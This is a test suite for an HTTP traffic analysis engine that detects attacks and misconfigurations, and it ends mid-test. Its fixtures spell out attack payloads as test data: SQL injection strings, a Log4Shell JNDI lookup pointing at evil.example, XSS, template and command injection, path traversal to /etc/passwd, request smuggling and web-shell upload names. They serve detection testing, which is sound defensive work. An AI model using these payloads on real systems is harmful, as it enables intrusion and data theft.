import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { createAnalysisEngine, parseSuppressionRules, type AnalyzerEvent, type FindingRecord, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { buildExchange, type ExchangeSpec } from '@/test/fixtures/traffic';
import type { HttpExchange__Output } from '@/runtime/proto';
import { signScanMarker } from '@/runtime/scan-marker';

const context = { sensorId: 'sensor-1', sensorTags: ['prod', 'eu'] };
const START = Date.parse('2026-03-01T12:00:00Z');

function clock(): { now: () => Date; advance: (ms: number) => void } {
  let t = START;
  return { now: () => new Date(t), advance: (ms) => (t += ms) };
}

const matchEvents = (events: AnalyzerEvent[]): MatchEventRecord[] => events.filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
const findingsOf = (events: AnalyzerEvent[], cls?: string): FindingRecord[] =>
  events.filter((e): e is FindingRecord => e.msg_type === 'Finding' && (cls === undefined || e.class === cls));

function analyze(spec: ExchangeSpec, options: Parameters<typeof createAnalysisEngine>[0] = {}): AnalyzerEvent[] {
  return createAnalysisEngine(options).analyze(buildExchange(spec), context);
}

describe('MatchEvent records', () => {
  it('carry the seed 000 fields for a request that matched attack rules', () => {
    const events = analyze({
      id: 'sensor-1:boot-a:17',
      target: '/api/items/5?id=1%27%20OR%20%271%27%3D%271&sort=asc',
      requestHeaders: [
        ['User-Agent', 'Mozilla/5.0 (X11)'],
        ['Host', 'shop.example.com:8443'],
      ],
      host: 'shop.example.com:8443',
      status: 500,
      responseBody: '{"error":"x"}',
      tls: true,
      clientIp: '198.51.100.23',
      startMs: START,
    });
    const [event] = matchEvents(events);
    expect(event).toMatchObject({
      msg_type: 'MatchEvent',
      message: 'shop.example.com/api/items/5',
      timestamp: '2026-03-01T12:00:00Z',
      request_id: 'sensor-1:boot-a:17',
      user_agent: 'Mozilla/5.0 (X11)',
      ip: '198.51.100.23',
      dst_host: 'shop.example.com',
      uri: '/api/items/5',
      args: 'id=1%27%20OR%20%271%27%3D%271&sort=asc',
      status_code: 500,
      ssl: true,
      request_method: 'GET',
      content_type: null,
      content_length: 0,
      response_length: 13,
      upstream_response_time: 5,
      postblock_event: false,
      random_id: null,
      tls_fingerprint: null,
      cookie: null,
      js_fingerprint: null,
      sensor_id: 'sensor-1',
      sensor_tags: ['prod', 'eu'],
    });
    expect(event.matches[0]).toMatchObject({
      id: 100102,
      classification: 'SqlInjection',
      state: 'Exploitation',
      blocking: false,
      beta: false,
      location: 'query',
      parameter: 'id',
    });
    expect(event.risk).toBe(Math.max(...event.matches.map((m) => m.risk)));
    expect(new Date(event.created).toString()).not.toBe('Invalid Date');
  });

  it('report prototype pollution in parameter names and JSON keys, and conflicting request framing', () => {
    const classes = (spec: ExchangeSpec): string[] =>
      matchEvents(analyze(spec)).flatMap((e) => e.matches.map((m) => `${m.classification}:${m.parameter ?? ''}`));
    expect(classes({ target: '/api/merge?__proto__[isAdmin]=true' })).toEqual(['PrototypePollution:__proto__[isAdmin]']);
    expect(
      classes({
        method: 'POST',
        target: '/api/merge',
        requestHeaders: [['Content-Type', 'application/json']],
        requestBody: '{"constructor":{"prototype":{"isAdmin":true}}}',
      }),
    ).toEqual(['PrototypePollution:constructor.prototype.isAdmin']);
    expect(
      classes({
        method: 'POST',
        target: '/api/x',
        requestHeaders: [
          ['Transfer-Encoding', 'chunked'],
          ['Content-Length', '4'],
        ],
        requestBody: '0\r\n\r\n',
      }),
    ).toContain('RequestSmuggling:Transfer-Encoding');
    expect(
      classes({
        method: 'POST',
        target: '/api/x',
        requestHeaders: [
          ['Transfer-Encoding', 'xchunked'],
          ['Content-Length', '4'],
        ],
        requestBody: 'abcd',
      }),
    ).toHaveLength(2);
    expect(
      classes({
        method: 'POST',
        target: '/api/x',
        requestHeaders: [
          ['Content-Length', '4'],
          ['Content-Length', '5'],
        ],
        requestBody: 'abcd',
      }),
    ).toEqual(['RequestSmuggling:Content-Length']);
    expect(classes({ method: 'POST', target: '/api/x', requestBody: 'abcd' })).toEqual([]);
    expect(classes({ method: 'POST', target: '/api/x', requestHeaders: [['Transfer-Encoding', 'chunked']], noResponse: true })).toEqual([]);
  });

  it('keep form and query values of secret-named parameters out of args', () => {
    const [event] = matchEvents(
      analyze({
        method: 'POST',
        target: '/login?token=abc123&next=%2Fhome',
        requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
        requestBody: "user=admin'--&password=hunter2&remember=1",
      }),
    );
    expect(event.args).toBe("token=<redacted>&next=%2Fhome&user=admin'--&password=<redacted>&remember=1");
    expect(JSON.stringify(event)).not.toContain('hunter2');
  });

  it('report uploads of server-executable files', () => {
    const upload = (filename: string): string[] =>
      matchEvents(
        analyze({
          method: 'POST',
          target: '/upload',
          requestHeaders: [['Content-Type', 'multipart/form-data; boundary=B']],
          requestBody: `--B\r\nContent-Disposition: form-data; name="avatar"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\nDATA\r\n--B--\r\n`,
        }),
      ).flatMap((e) => e.matches.map((m) => m.classification));
    expect(upload('shell.php')).toEqual(['MaliciousUpload']);
    expect(upload('avatar.php.png')).toEqual(['MaliciousUpload']);
    expect(upload('cmd.aspx;.jpg')).toEqual(['MaliciousUpload']);
    expect(upload('holiday.png')).toEqual([]);
    expect(upload('report.phpdoc.pdf')).toEqual([]);
  });

  it('are not produced for benign requests', () => {
    expect(matchEvents(analyze({ target: '/api/search?q=union+station+parking&limit=10' }))).toEqual([]);
  });

  it('report Log4Shell in any header and scanners by user agent', () => {
    const events = analyze({
      target: '/',
      requestHeaders: [
        ['X-Custom', '${${lower:j}ndi:ldap://evil.example/a}'],
        ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
      ],
    });
    const classes = matchEvents(events)[0].matches.map((m) => `${m.classification}:${m.parameter}`);
    expect(classes).toEqual(expect.arrayContaining(['Log4Shell:X-Custom', 'ScannerDetection:User-Agent']));
  });

  it('report a scanner alone at level 1, by its user agent or the headers it adds', () => {
    const scanner = (headers: Array<[string, string]>) =>
      matchEvents(analyze({ target: '/', requestHeaders: headers })).flatMap((e) => e.matches.map((m) => `${m.classification}:${m.parameter}`));
    expect(scanner([['User-Agent', 'Fuzz Faster U Fool v2.1.0-dev']])).toEqual(['ScannerDetection:User-Agent']);
    expect(scanner([['User-Agent', 'Mozilla/5.0 Jorgee']])).toEqual(['ScannerDetection:User-Agent']);
    expect(scanner([['User-Agent', 'h2csmuggler/0.1']])).toEqual(['ScannerDetection:User-Agent']);
    expect(scanner([['Acunetix-Product', 'WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)']])).toEqual(['ScannerDetection:Acunetix-Product']);
    expect(scanner([['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0 Safari/537.36']])).toEqual([]);
  });

  it("report IIS short-name enumeration by its wildcard path, not a path's own tilde", () => {
    const probe = (target: string) => matchEvents(analyze({ target })).flatMap((e) => e.matches.map((m) => m.id));
    expect(probe('/A*~1*/.aspx?aspxerrorpath=/')).toEqual([930102]);
    expect(probe('/WEBCON*~1*.*/.aspx')).toEqual([930102]);
    expect(probe('/~user/index.html')).toEqual([]);
    expect(probe('/docs/file~1.txt')).toEqual([]);
  });
});

describe('findings', () => {
  it('SQL injection payload plus database error is a sql_injection finding worth confirming', () => {
    const events = analyze({
      target: "/api/users?id=1'%20OR%201=1--",
      status: 500,
      responseHeaders: [['Content-Type', 'text/html']],
      responseBody:
        "<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1'' at line 1</p>",
    });
    const [finding] = findingsOf(events, 'sql_injection');
    expect(finding).toMatchObject({
      status: 'new',
      cwe: 'CWE-89',
      severity: 'high',
      method: 'GET',
      endpoint: '/api/users',
      parameter: 'id',
      parameter_location: 'query',
      host: 'api.example.com',
      occurrences: 1,
      sensor_tags: ['prod', 'eu'],
    });
    expect(finding.scan).toMatchObject({
      finding_id: finding.finding_id,
      finding_class: 'sql_injection',
      severity: 'SEVERITY_HIGH',
      endpoint: '/api/users',
      parameter: 'id',
      parameter_location: 'query',
      scheme: 'http',
      host: 'api.example.com',
      version: 1,
    });
    expect(finding.scan?.exchange?.request?.target).toBe("/api/users?id=1'%20OR%201=1--");
    expect(finding.evidence).toContain('MySQL');
  });

  it('scan candidates carry a bounded copy of the example exchange', () => {
    const body = `<html><body><p>Results for <img src=x onerror=alert(1)></p>${'<p>filler</p>'.repeat(2000)}</body></html>`;
    const [finding] = findingsOf(
      analyze({ target: '/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', responseHeaders: [['Content-Type', 'text/html']], responseBody: body }),
      'reflected_xss',
    );
    const response = finding.scan?.exchange?.response;
    expect(response?.body?.data?.length).toBe(2 * 1024);
    // A buffer of its own: a view into a larger one would keep that alive as long as the finding.
    const data = response?.body?.data;
    expect(data instanceof Uint8Array ? data.buffer.byteLength : data).toBe(2 * 1024);
    expect(response?.body?.truncated).toBe(true);
    expect(response?.body?.wire_length).toBe(Buffer.byteLength(body));
    expect(finding.scan?.exchange?.request?.target).toBe('/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E');
    // Findings no scan is wanted for keep no exchange at all.
    expect(findingsOf(analyze({ target: '/x', responseHeaders: [['Server', 'Apache/2.4.1']] }), 'version_disclosure')[0].scan).toBeUndefined();
  });

  it('a database error without an attack is disclosure, not injection', () => {
    const events = analyze({
      target: '/api/report',
      status: 500,
      responseHeaders: [['Content-Type', 'text/plain']],
      responseBody: 'org.postgresql.util.PSQLException: ERROR: syntax error at or near "FROM"',
    });
    expect(findingsOf(events, 'sql_error_disclosure')).toHaveLength(1);
    expect(findingsOf(events, 'sql_error_disclosure')[0].scan).toBeUndefined();
  });

  it('repeated observations update one finding at most once a minute', () => {
    const c = clock();
    const engine = createAnalysisEngine({ now: c.now });
    const spec: ExchangeSpec = { target: '/page', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html><body>hi</body></html>' };
    const first = findingsOf(engine.analyze(buildExchange(spec), context), 'missing_security_headers');
    expect(first).toHaveLength(1);
    expect(first[0].status).toBe('new');
    for (let i = 0; i < 50; i++) {
      c.advance(1000);
      expect(findingsOf(engine.analyze(buildExchange(spec), context), 'missing_security_headers')).toEqual([]);
    }
    c.advance(10_000);
    const [updated] = findingsOf(engine.analyze(buildExchange(spec), context), 'missing_security_headers');
    expect(updated).toMatchObject({ status: 'updated', finding_id: first[0].finding_id, occurrences: 52, first_seen: first[0].first_seen });
    expect(updated.scan?.version).toBe(2);
    expect(engine.counters()).toMatchObject({ findings_created: 1, findings_updated: 1 });
  });

  it('finding ids are stable across engines and differ by parameter and class', () => {
    const spec = (param: string): ExchangeSpec => ({
      target: `/api/users?${param}=1'%20OR%201=1--`,
      status: 500,
      responseBody: 'Unclosed quotation mark after the character string',
      responseHeaders: [['Content-Type', 'text/plain']],
    });
    const a = findingsOf(analyze(spec('id')), 'sql_injection')[0].finding_id;
    const b = findingsOf(analyze(spec('id')), 'sql_injection')[0].finding_id;
    const c = findingsOf(analyze(spec('name')), 'sql_injection')[0].finding_id;
    expect(a).toBe(b);
    expect(a).not.toBe(c);
    expect(a).toMatch(/^[0-9a-f]{32}$/);
  });

  it('finding ids do not depend on the share of traffic an engine saw (fleet-stable)', () => {
    const page = (target: string): ExchangeSpec => ({ target, responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' });
    const ids = (engine: ReturnType<typeof createAnalysisEngine>, targets: readonly string[]): Set<string> =>
      new Set(targets.flatMap((t) => findingsOf(engine.analyze(buildExchange(page(t)), context), 'missing_security_headers').map((f) => f.finding_id)));
    // One engine sees 60 user names and learns that the position holds values; the other sees two.
    const seasoned = createAnalysisEngine();
    ids(
      seasoned,
      Array.from({ length: 60 }, (_, i) => `/users/name${String.fromCharCode(97 + (i % 26))}${String.fromCharCode(97 + Math.floor(i / 26))}/profile`),
    );
    const fresh = createAnalysisEngine();
    const fromSeasoned = findingsOf(seasoned.analyze(buildExchange(page('/users/zed/profile')), context), 'missing_security_headers');
    const fromFresh = findingsOf(fresh.analyze(buildExchange(page('/users/zed/profile')), context), 'missing_security_headers');
    // Shown with each engine's own template, counted under the same id.
    expect(fromSeasoned[0]?.endpoint).toBe('/users/{param}/profile');
    expect(fromFresh[0]?.endpoint).toBe('/users/zed/profile');
    expect(fromSeasoned[0]?.finding_id).toBe(fromFresh[0]?.finding_id);
    // Fingerprinted asset names are one endpoint from the first sighting, on every engine.
    const assets = (n: number, offset: number) => Array.from({ length: n }, (_, i) => `/static/app.${(0x1a2b3c00 + offset + i).toString(16)}.js`);
    const a = ids(createAnalysisEngine(), assets(30, 0));
    const b = ids(createAnalysisEngine(), assets(30, 100));
    expect(a.size).toBe(1);
    expect([...b]).toEqual([...a]);
  });

  it('keeps at most maxFindings findings', () => {
    const engine = createAnalysisEngine({ limits: { maxFindings: 3 } });
    for (let i = 0; i < 6; i++)
      engine.analyze(buildExchange({ target: `/p${i}`, responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context);
    expect(engine.counters().findings_created).toBe(6);
    // The oldest was evicted: seeing it again makes a new finding; the most recent is still known.
    expect(
      findingsOf(engine.analyze(buildExchange({ target: '/p0', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context))[0]
        .status,
    ).toBe('new');
    expect(
      findingsOf(engine.analyze(buildExchange({ target: '/p5', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context)),
    ).toEqual([]);
  });

  const html = (body: string, headers: Array<[string, string]> = []): Pick<ExchangeSpec, 'responseHeaders' | 'responseBody'> => ({
    // Extra headers first: the engine reads the first value of a repeated header.
    responseHeaders: [
      ...headers,
      ['Content-Type', 'text/html; charset=utf-8'],
      ['Content-Security-Policy', "default-src 'self'"],
      ['X-Frame-Options', 'DENY'],
      ['X-Content-Type-Options', 'nosniff'],
    ],
    responseBody: body,
  });

  it.each<[string, ExchangeSpec, string, Partial<FindingRecord>, string | undefined]>([
    [
      'reflected XSS',
      { target: '/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', ...html('<p>Results for <img src=x onerror=alert(1)></p>') },
      'reflected_xss',
      { parameter: 'q', severity: 'high', cwe: 'CWE-79' },
      'reflected_xss',
    ],
    [
      'stack trace',
      {
        target: '/api/x',
        status: 500,
        responseHeaders: [['Content-Type', 'text/plain']],
        responseBody: 'Traceback (most recent call last):\n  File "/app/views.py", line 42, in get\nKeyError',
      },
      'verbose_error',
      { cwe: 'CWE-209', parameter: 'python' },
      'verbose_error',
    ],
    [
      'debug page',
      { target: '/x', status: 500, ...html("<p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p>") },
      'debug_mode_enabled',
      { cwe: 'CWE-215' },
      undefined,
    ],
    [
      'directory listing',
      { target: '/files/', ...html('<html><head><title>Index of /files</title></head><body><a href="a.zip">a.zip</a></body></html>') },
      'directory_listing',
      { cwe: 'CWE-548', parameter: 'apache_nginx' },
      'directory_listing',
    ],
    [
      'missing security headers',
      { target: '/home', responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>', tls: true },
      'missing_security_headers',
      { evidence: 'missing: Strict-Transport-Security, Content-Security-Policy, X-Frame-Options (or CSP frame-ancestors), X-Content-Type-Options' },
      'missing_security_headers',
    ],
    [
      'weak CSP',
      { target: '/home', ...html('<html></html>', [['Content-Security-Policy', "script-src 'self' 'unsafe-inline'"]]) },
      'weak_security_headers',
      {},
      undefined,
    ],
    [
      'insecure session cookie',
      {
        target: '/login',
        method: 'POST',
        tls: true,
        responseHeaders: [
          ['Set-Cookie', 'sessionid=abc; Path=/'],
          ['Set-Cookie', 'theme=dark; Secure; Path=/'],
        ],
      },
      'insecure_cookie',
      { parameter: 'sessionid', cwe: 'CWE-614', severity: 'medium' },
      'insecure_cookie',
    ],
    [
      'cookie without Secure behind a TLS-terminating balancer',
      { target: '/login', method: 'POST', requestHeaders: [['X-Forwarded-Proto', 'https']], responseHeaders: [['Set-Cookie', 'prefs=1; Path=/']] },
      'insecure_cookie',
      { parameter: 'prefs', cwe: 'CWE-614', severity: 'low' },
      undefined,
    ],
    [
      'CORS reflection with credentials',
      {
        target: '/api/me',
        requestHeaders: [['Origin', 'https://evil.example.net']],
        responseHeaders: [
          ['Access-Control-Allow-Origin', 'https://evil.example.net'],
          ['Access-Control-Allow-Credentials', 'true'],
        ],
      },
      'cors_misconfiguration',
      { severity: 'high', cwe: 'CWE-942', parameter: 'reflected_origin' },
      'cors_misconfiguration',
    ],
    [
      'CORS reflection of another site under the same registry (attacker.co.uk is not shop.co.uk)',
      {
        target: '/api/me',
        host: 'shop.co.uk',
        requestHeaders: [['Origin', 'https://attacker.co.uk']],
        responseHeaders: [
          ['Access-Control-Allow-Origin', 'https://attacker.co.uk'],
          ['Access-Control-Allow-Credentials', 'true'],
        ],
      },
      'cors_misconfiguration',
      { severity: 'high', cwe: 'CWE-942', parameter: 'reflected_origin' },
      'cors_misconfiguration',
    ],
    [
      'version disclosure',
      { target: '/x', responseHeaders: [['Server', 'Apache/2.4.41 (Ubuntu)']] },
      'version_disclosure',
      { endpoint: '*', method: '*', parameter: 'Server', severity: 'info' },
      undefined,
    ],
    [
      'open redirect',
      { target: '/login?next=https%3A%2F%2Fevil.example.net%2Fphish', status: 302, responseHeaders: [['Location', 'https://evil.example.net/phish']] },
      'open_redirect',
      { parameter: 'next', cwe: 'CWE-601' },
      'open_redirect',
    ],
    [
      'path traversal proof',
      {
        target: '/download?file=..%2F..%2F..%2Fetc%2Fpasswd',
        responseHeaders: [['Content-Type', 'text/plain']],
        responseBody: 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon',
      },
      'path_traversal',
      { parameter: 'file', severity: 'critical' },
      'path_traversal',
    ],
    [
      'command output proof',
      {
        target: '/ping?host=127.0.0.1%3Bid',
        responseHeaders: [['Content-Type', 'text/plain']],
        responseBody: 'PING ok\nuid=33(www-data) gid=33(www-data) groups=33(www-data)',
      },
      'command_injection',
      { parameter: 'host', cwe: 'CWE-78' },
      'command_injection',
    ],
    [
      'template evaluated',
      { target: '/greet?name=%7B%7B7*7%7D%7D', ...html('<p>Hello 49</p>') },
      'template_injection',
      { parameter: 'name' },
      'template_injection',
    ],
    ['credential in URL', { target: '/api/data?api_key=abcd1234efgh' }, 'sensitive_data_in_url', { parameter: 'api_key', cwe: 'CWE-598' }, undefined],
    [
      'JWT in URL',
      { target: '/download?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U' },
      'sensitive_data_in_url',
      { parameter: 't', evidence: 'query parameter t carries a JSON Web Token (92 chars, value not recorded)' },
      undefined,
    ],
  ])('%s', (_name, spec, cls, expected, scanClass) => {
    const [finding] = findingsOf(analyze(spec), cls);
    expect(finding).toMatchObject(expected);
    expect(finding.scan?.finding_class).toBe(scanClass);
  });

  it('sensitive data is reported with redacted evidence', () => {
    const body = JSON.stringify({
      card: '4111 1111 1111 1111',
      key: 'AKIAIOSFODNN7EXAMPLE',
      pem: '-----BEGIN RSA PRIVATE KEY-----\nMIIEow...',
      order: 1234567890123,
    });
    const events = analyze({ target: '/api/orders/1', responseBody: body });
    const found = [...findingsOf(events, 'sensitive_data'), ...findingsOf(events, 'private_key_exposure')];
    expect(found.map((f) => f.parameter).sort()).toEqual(['aws_access_key_id', 'credit_card', 'private_key']);
    expect(findingsOf(events, 'private_key_exposure')).toMatchObject([{ cwe: 'CWE-321', severity: 'critical' }]);
    for (const f of found) {
      expect(f.evidence).not.toContain('4111 1111 1111 1111');
      expect(f.evidence).not.toContain('4111111111111111');
      expect(f.evidence).not.toContain('IOSFODNN7EXAMPLE');
      expect(f.scan?.finding_class).toBe('sensitive_data');
    }
    expect(found.find((f) => f.parameter === 'credit_card')?.evidence).toBe('card number Visa ************1111 (Luhn valid)');
    const doc = createAnalysisEngine();
    doc.analyze(buildExchange({ target: '/api/orders/1', responseBody: body }), context);
    const op = (doc.openApi().paths as Record<string, Record<string, Record<string, unknown>>>)['/api/orders/{id}'].get;
    expect(op['x-txprevent-sensitive-data']).toEqual(['aws_access_key_id', 'credit_card', 'private_key']);
  });

  it('numbers that fail the Luhn check or have no card prefix are not cards', () => {
    const events = analyze({ target: '/api/x', responseBody: JSON.stringify({ a: '4111 1111 1111 1112', ts: 1700000000000, id: '1234567890123456' }) });
    expect(findingsOf(events, 'sensitive_data')).toEqual([]);
  });
});

describe('scanner traffic', () => {
  const key = Buffer.alloc(32, 7);
  const attack: ExchangeSpec = {
    target: "/api/users?id=1'%20OR%201=1--",
    status: 500,
    responseBody: 'You have an error in your SQL syntax',
    responseHeaders: [['Content-Type', 'text/plain']],
  };

  it('a valid, fresh marker yields nothing and is counted', () => {
    const c = clock();
    const engine = createAnalysisEngine({ scanMarkerKey: key, now: c.now });
    const marker = signScanMarker('scan-1', key, c.now());
    expect(engine.analyze(buildExchange({ ...attack, requestHeaders: [['X-TxPrevent-Scan', marker]] }), context)).toEqual([]);
    expect(engine.counters()).toMatchObject({ exchanges: 1, skipped_scanner_traffic: 1, match_events: 0 });
  });

  it.each([
    ['stale', (now: Date) => signScanMarker('scan-1', key, new Date(now.getTime() - 10 * 60_000))],
    ['wrongly signed', (now: Date) => signScanMarker('scan-1', Buffer.alloc(32, 9), now)],
    ['malformed', () => 'not-a-marker'],
  ])('a %s marker is ordinary traffic', (_name, marker) => {
    const c = clock();
    const engine = createAnalysisEngine({ scanMarkerKey: key, now: c.now });
    const events = engine.analyze(buildExchange({ ...attack, requestHeaders: [['x-txprevent-scan', marker(c.now())]] }), context);
    expect(matchEvents(events)).toHaveLength(1);
    expect(engine.counters().skipped_scanner_traffic).toBe(0);
  });

  it('rejects a short marker key at construction', () => {
    expect(() => createAnalysisEngine({ scanMarkerKey: Buffer.alloc(4) })).toThrow(/scanMarkerKey must be a Buffer of at least 16 bytes/);
  });
});

describe('suppression rules', () => {
  it('parses valid rules and names the rule index and field in errors', () => {
    expect(parseSuppressionRules([{ endpoint: '/api/*', method: 'get', findingClass: 'SqlInjection', reason: 'test env' }])).toEqual([
      { endpoint: '/api/*', method: 'GET', findingClass: 'SqlInjection', reason: 'test env' },
    ]);
    expect(parseSuppressionRules(undefined)).toEqual([]);
    expect(() => parseSuppressionRules({})).toThrow(/must be a JSON array/);
    expect(() => parseSuppressionRules([{ endpoint: '/a', reason: 'x' }, { endpoint: '/b' }])).toThrow(/suppression rule 1: field "reason" is required/);
    expect(() => parseSuppressionRules([{ endpoint: '/a', reason: 'x', severity: 'low' }])).toThrow(/suppression rule 0: field "severity" is unknown/);
    expect(() => parseSuppressionRules([{ endpoint: 'api', reason: 'x' }])).toThrow(/suppression rule 0: field "endpoint" must start with "\/"/);
    expect(() => parseSuppressionRules([{ method: 'GET POST', reason: 'x' }])).toThrow(/suppression rule 0: field "method"/);
    expect(() => parseSuppressionRules([{ parameter: 7, reason: 'x' }])).toThrow(/suppression rule 0: field "parameter" must be a non-empty string/);
    expect(() => parseSuppressionRules([{ reason: 'everything' }])).toThrow(/suppression rule 0: a rule needs at least one of/);
    expect(() => parseSuppressionRules(['x'])).toThrow(/suppression rule 0: must be an object/);
  });

  it('suppresses matches and findings by endpoint template, parameter and class', () => {
    const engine = createAnalysisEngine({
      suppressions: [
        { endpoint: '/api/items/{id}', parameter: 'q', findingClass: 'sql_injection', reason: 'accepted: read-only replica' },
        { endpoint: '/static/*', findingClass: 'missing_security_headers', reason: 'static assets' },
      ],
    });
    const sqli = (path: string, param: string): AnalyzerEvent[] => engine.analyze(buildExchange({ target: `${path}?${param}=1'%20OR%201=1--` }), context);
    expect(matchEvents(sqli('/api/items/5', 'q'))).toEqual([]);
    expect(matchEvents(sqli('/api/items/5', 'other'))).toHaveLength(1);
    expect(matchEvents(sqli('/api/orders/5', 'q'))).toHaveLength(1);
    const page = (path: string): AnalyzerEvent[] =>
      engine.analyze(buildExchange({ target: path, responseHeaders: [['Content-Type', 'text/html']], responseBody: '<html></html>' }), context);
    expect(findingsOf(page('/static/app/index.html'), 'missing_security_headers')).toEqual([]);
    expect(findingsOf(page('/app/index.html'), 'missing_security_headers')).toHaveLength(1);
    expect(engine.counters().suppressed).toBeGreaterThanOrEqual(2);
  });

  it('rejects invalid rules passed programmatically', () => {
    expect(() => createAnalysisEngine({ suppressions: [{ reason: '' } as never] })).toThrow(/suppression rule 0: field "reason"/);
  });
});

describe('hostile and malformed input', () => {
  it('counts malformed exchanges and yields nothing', () => {
    const engine = createAnalysisEngine();
    const good = buildExchange({ target: '/x' });
    const broken: unknown[] = [
      { ...good, request: null },
      { ...good, request: { ...good.request, method: 'G E T' } },
      { ...good, request: { ...good.request, target: '' } },
      { ...good, response: { ...good.response, status: 999 } },
      { ...good, request: { ...good.request, headers: [{ name: 'a', value: 7 }] } },
      { ...good, request: { ...good.request, headers: 'nope' } },
      null,
      'exchange',
    ];
    for (const b of broken) expect(engine.analyze(b as HttpExchange__Output, context)).toEqual([]);
    expect(engine.counters()).toMatchObject({ exchanges: broken.length, malformed: broken.length - 1 });
  });

  it('never throws on arbitrary exchange-shaped garbage', () => {
    const engine = createAnalysisEngine();
    const header = fc.record({ name: fc.string(), value: fc.oneof(fc.string(), fc.constant(undefined as unknown as string)) });
    const body = fc.option(
      fc.record({
        data: fc.uint8Array({ maxLength: 200 }).map((a) => Buffer.from(a)),
        truncated: fc.boolean(),
        wire_length: fc.nat(),
        content_encoding: fc.constantFrom('', 'gzip', 'deflate', 'br', 'zstd'),
        decoded: fc.boolean(),
        missing_bytes: fc.nat(),
      }),
    );
    const exchange = fc.record({
      id: fc.string(),
      client: fc.option(fc.record({ ip: fc.string(), port: fc.nat() })),
      server: fc.option(fc.record({ ip: fc.string(), port: fc.nat() })),
      tls: fc.boolean(),
      request: fc.option(
        fc.record({
          method: fc.string(),
          target: fc.string(),
          http_version: fc.string(),
          headers: fc.array(header, { maxLength: 5 }),
          body,
          trailers: fc.constant([]),
        }),
      ),
      response: fc.option(
        fc.record({
          status: fc.integer({ min: 0, max: 1000 }),
          reason: fc.string(),
          http_version: fc.string(),
          headers: fc.array(header, { maxLength: 5 }),
          body,
          trailers: fc.constant([]),
          interim_statuses: fc.constant([]),
        }),
      ),
      timing: fc.option(fc.record({ request_start_us: fc.nat(), request_end_us: fc.nat(), response_start_us: fc.nat(), response_end_us: fc.nat() })),
      tags: fc.array(fc.string(), { maxLength: 2 }),
      connection_index: fc.nat(),
      connection_id: fc.string(),
    });
    fc.assert(
      fc.property(exchange, (e) => Array.isArray(engine.analyze(e as unknown as HttpExchange__Output, context))),
      { numRuns: 300 },
    );
  });

  it('well-formed exchanges with arbitrary content are never counted as malformed (no internal errors hide there)', () => {
    const engine = createAnalysisEngine();
    const text = fc.string({ unit: fc.constantFrom(...'<>\'"%$;{}()/\\&=?#@!*-+.,:|`~ \n\r\taAzZ09uxXeE_[]'.split('')), maxLength: 80 });
    const contentType = fc.constantFrom(
      'application/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=XX',
      'text/xml',
      '',
      'text/html',
    );
    const headers = fc.array(
      fc.tuple(
        text.filter((t) => t.length > 0),
        text,
      ),
      { maxLength: 4 },
    );
    fc.assert(
      fc.property(
        fc.constantFrom('GET', 'POST', 'PUT'),
        text,
        text,
        contentType,
        text,
        fc.integer({ min: 100, max: 599 }),
        headers,
        (method, path, query, type, body, status, extra) => {
          const all: Array<[string, string]> = [['Content-Type', type], ...extra];
          engine.analyze(
            buildExchange({ method, target: `/${path}?${query}`, requestHeaders: all, requestBody: body, status, responseHeaders: all, responseBody: body }),
            context,
          );
          return engine.counters().malformed === 0;
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('rejects bad limits with the name of the limit', () => {
    expect(() => createAnalysisEngine({ limits: { maxBodyBytes: -1 } })).toThrow(/engine limit maxBodyBytes must be a positive integer/);
    expect(() => createAnalysisEngine({ limits: { maxBodies: 1 } as never })).toThrow(/engine limit "maxBodies" is unknown/);
  });

  it('looks at no more than maxBodyBytes of a body and maxHeaders headers', () => {
    const engine = createAnalysisEngine({ limits: { maxBodyBytes: 1024, maxHeaders: 10 } });
    const late = `author=ann&pad=${'lorem+ipsum+'.repeat(170)}&text=%3Cscript%3Ealert(1)%3C%2Fscript%3E`;
    expect(
      matchEvents(
        engine.analyze(
          buildExchange({ method: 'POST', target: '/c', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: late }),
          context,
        ),
      ),
    ).toEqual([]);
    const early = `text=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=${'lorem+ipsum+'.repeat(170)}`;
    expect(
      matchEvents(
        engine.analyze(
          buildExchange({ method: 'POST', target: '/c', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: early }),
          context,
        ),
      ),
    ).toHaveLength(1);
    // What goes unread is reported instead: the body past the limit at level 2, headers past theirs at level 1.
    const level2 = createAnalysisEngine({ limits: { maxBodyBytes: 1024, maxHeaders: 10 }, detectionLevel: 2 });
    const cut = matchEvents(
      level2.analyze(
        buildExchange({ method: 'POST', target: '/c', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: late }),
        context,
      ),
    );
    expect(cut.map((e) => e.matches.map((m) => m.id))).toEqual([[960112]]);
    const headers: Array<[string, string]> = Array.from({ length: 20 }, (_, i) => [`X-H${i}`, 'v']);
    headers.push(['X-Late', '${jndi:ldap://x/a}']);
    const padded = matchEvents(engine.analyze(buildExchange({ target: '/h', requestHeaders: headers }), context));
